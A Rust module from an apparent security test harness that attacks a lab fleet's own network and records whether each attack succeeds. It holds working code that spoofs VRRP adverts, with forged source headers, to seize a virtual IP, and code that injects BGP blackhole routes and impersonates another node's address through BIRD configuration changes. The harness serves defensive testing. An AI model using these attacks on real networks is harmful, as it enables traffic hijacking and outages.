//! Attacks on the VIP by VRRP, and on another node's address by BGP.

use std::net::{Ipv4Addr, SocketAddrV4};
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread::{self, sleep};
use std::time::{Duration, Instant};

use fleet::Node;
use socket2::{Domain, Protocol, SockAddr, Socket, Type};

use super::foothold::{Foothold, doors};
use super::{Arena, Finding};
use crate::Machine;

const VRRP: i32 = 112;
/// Virtual router id and interval of the fleet's `keepalived.conf`.
const ROUTER_ID: u8 = 51;
const CENTISECONDS: u16 = 20;
/// How long the attack sends adverts. A backup takes over after 0.6 s without a master.
const LASTS: Duration = Duration::from_secs(5);

/// Tries to keep the VIP from every other hub by adverts of the highest priority.
pub(super) fn take_vip(arena: &Arena, from: &Foothold) -> Finding {
    let own = from.node.as_ref();
    let hubs: Vec<&str> = arena.topology.hubs.iter().map(|h| h.name.as_str()).collect();
    // The attacker's own machine does not count: an evicted hub may keep the address, but no packets are routed there.
    let others: Vec<&str> = hubs.iter().copied().filter(|h| own.is_none_or(|n| n.name != *h)).collect();
    let has = |hub: &str| {
        let shown = format!("ip -brief address show dev lo | grep -q {}/32", arena.topology.vip);
        arena.machine(hub).exec(&shown).status == 0
    };
    let held = || others.iter().any(|hub| has(hub));
    let before = Instant::now();
    while !hubs.iter().any(|hub| has(hub)) {
        assert!(before.elapsed() < Duration::from_secs(30), "no hub has the VIP");
        sleep(Duration::from_millis(200));
    }
    let stop = AtomicBool::new(false);
    let (sent, lost, looked) = thread::scope(|scope| {
        let sending = scope.spawn(|| {
            from.enter();
            advertise(arena, from, &stop)
        });
        let begun = Instant::now();
        // The other hubs step down after a few adverts.
        sleep(Duration::from_secs(1));
        let (mut lost, mut looked) = (0, 0);
        while begun.elapsed() < LASTS {
            looked += 1;
            lost += i32::from(!held());
            sleep(Duration::from_millis(100));
        }
        stop.store(true, Ordering::Relaxed);
        (sending.join().expect("no panic in the thread"), lost, looked)
    });
    let evidence = format!("{sent} adverts; no other hub had the VIP in {lost} of {looked} checks");
    // A busy host may move the VIP for a moment without an attack.
    if lost * 2 > looked { Finding::yes(evidence) } else { Finding::no(evidence) }
}

/// Sends adverts to every hub, from the attacker's address and from spoofed addresses of hubs. Returns their number.
fn advertise(arena: &Arena, from: &Foothold, stop: &AtomicBool) -> u32 {
    let raw = |protocol: i32| Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(protocol))).expect("root");
    let plain = raw(VRRP);
    plain.set_ttl_v4(255).expect("a TTL");
    let spoofed = raw(VRRP);
    spoofed.set_header_included_v4(true).expect("root");
    let mut sent = 0;
    while !stop.load(Ordering::Relaxed) {
        for hub in &arena.topology.hubs {
            for to in [hub.address, arena.public(hub)] {
                let at = SockAddr::from(SocketAddrV4::new(to, 0));
                let own = from.node.as_ref().map_or(Ipv4Addr::UNSPECIFIED, |n| n.address);
                sent += u32::from(plain.send_to(&advert(arena, own, to), &at).is_ok());
                for other in arena.topology.hubs.iter().filter(|other| other.name != hub.name) {
                    let packet = [header(other.address, to), advert(arena, other.address, to)].concat();
                    sent += u32::from(spoofed.send_to(&packet, &at).is_ok());
                }
            }
        }
        sleep(Duration::from_millis(100));
    }
    sent
}

/// Encodes a VRRP version 3 advert, see RFC 5798.
fn advert(arena: &Arena, from: Ipv4Addr, to: Ipv4Addr) -> Vec<u8> {
    let mut body = vec![0x31, ROUTER_ID, 255, 1];
    body.extend(CENTISECONDS.to_be_bytes());
    body.extend([0, 0]);
    body.extend(arena.topology.vip.octets());
    let pseudo =
        [&from.octets()[..], &to.octets(), &[0, VRRP as u8], &(body.len() as u16).to_be_bytes(), &body].concat();
    body[6..8].copy_from_slice(&checksum(&pseudo).to_be_bytes());
    body
}

/// Encodes the IPv4 header of an advert. The kernel fills in length, id and checksum.
fn header(from: Ipv4Addr, to: Ipv4Addr) -> Vec<u8> {
    let mut header = vec![0x45, 0xc0, 0, 32, 0, 0, 0, 0, 255, VRRP as u8, 0, 0];
    header.extend(from.octets());
    header.extend(to.octets());
    header
}

fn checksum(bytes: &[u8]) -> u16 {
    let word = |pair: &[u8]| u32::from(pair[0]) << 8 | pair.get(1).map_or(0, |b| u32::from(*b));
    let mut sum: u32 = bytes.chunks(2).map(word).sum();
    while sum > 0xffff {
        sum = (sum >> 16) + (sum & 0xffff);
    }
    !(sum as u16)
}

/// Tries to announce a database's address to the other hubs from the attacker's routing daemon.
pub(super) fn announce(arena: &Arena, from: &Foothold) -> Finding {
    let Some(node) = &from.node else {
        // A host without a tunnel has no transport address and can only try BGP's port.
        let open = from.run(|| async { from.reachable(doors(arena, arena.topology.hubs.iter(), 179)).await });
        return match open.first() {
            Some(door) => Finding::yes(format!("{}:179 accepts a connection", door.host)),
            None => Finding::no("port 179 is filtered or closed"),
        };
    };
    let victim = if node.name == "db-1" { "db-2" } else { "db-1" };
    let machine = arena.machine(&node.name);
    let victim = arena.node(victim).address;
    let lie = Routing::changed(machine, &format!("protocol static evil {{ ipv4; route {victim}/32 blackhole; }}"));
    let believed = || {
        arena.topology.hubs.iter().filter(|hub| hub.name != node.name).find_map(|hub| {
            let shown =
                arena.machine(&hub.name).exec(&format!("birdc -s /run/bird/bird.ctl show route for {victim} all"));
            let of_attacker = format!("via {} on", node.transport);
            shown.output.contains(&of_attacker).then(|| format!("{} has {victim} {of_attacker} wg*", hub.name))
        })
    };
    let until = Instant::now() + Duration::from_secs(4);
    let mut found = believed();
    while found.is_none() && Instant::now() < until {
        sleep(Duration::from_millis(300));
        found = believed();
    }
    drop(lie);
    found.map_or_else(|| Finding::no(format!("no hub has a route to {victim} by {}", node.transport)), Finding::yes)
}

/// A node's BIRD without an export filter and with additional configuration. Dropping it restores the node's own
/// configuration.
struct Routing<'a>(&'a Machine);

impl<'a> Routing<'a> {
    fn changed(machine: &'a Machine, more: &str) -> Self {
        machine.ok(&format!(
            "sed -e 's/export where .*/export all;/' /run/bakehouse/bird.conf >/run/bakehouse/evil.conf && \
             echo '{more}' >>/run/bakehouse/evil.conf && chmod 644 /run/bakehouse/evil.conf && \
             birdc -s /run/bird/bird.ctl configure '\"/run/bakehouse/evil.conf\"' | grep -i reconfig"
        ));
        Self(machine)
    }
}

impl Drop for Routing<'_> {
    fn drop(&mut self) {
        self.0
            .exec("birdc -s /run/bird/bird.ctl configure '\"/run/bakehouse/bird.conf\"'; rm /run/bakehouse/evil.conf");
    }
}

/// A hub that announces a worker's address and uses it towards one node, until this is dropped. Only a hub can do this:
/// WireGuard's allowed IPs limit a worker to its own address.
pub(super) struct Impersonation<'a> {
    machine: &'a Machine,
    undo: String,
    _routing: Routing<'a>,
}

impl<'a> Impersonation<'a> {
    /// Starts the impersonation of `worker` towards one node.
    ///
    /// # Panics
    /// If the attacker's machine is not a hub.
    pub(super) fn new(arena: &'a Arena, from: &Foothold, worker: &Node, towards: &Node) -> Self {
        let machine = arena.machine(&from.node.as_ref().expect("a hub").name);
        let (address, to) = (worker.address, towards.address);
        let route = format!("{to}/32 dev wg0 src {address} metric 1");
        machine.ok(&format!("ip address add {address}/32 dev lo && ip route add {route}"));
        let undo = format!("ip route del {route}; ip address del {address}/32 dev lo");
        let impersonation = Self { machine, undo, _routing: Routing::changed(machine, "") };
        // Waits until the route has reached the other node.
        let heard = format!("ip route get {address} | grep -q 'dev wg-hub{}'", from.node.as_ref().map_or(0, |n| n.hub));
        let until = Instant::now() + Duration::from_secs(5);
        while arena.machine(&towards.name).exec(&heard).status != 0 && Instant::now() < until {
            sleep(Duration::from_millis(100));
        }
        impersonation
    }
}

impl Drop for Impersonation<'_> {
    fn drop(&mut self) {
        self.machine.exec(&self.undo);
    }
}

#[cfg(test)]
mod tests {
    use super::checksum;

    #[test]
    fn checksum_matches_rfc_1071() {
        // Example of RFC 1071, section 3.
        assert_eq!(checksum(&[0x00, 0x01, 0xf2, 0x03, 0xf4, 0xf5, 0xf6, 0xf7]), !0xddf2);
    }
}
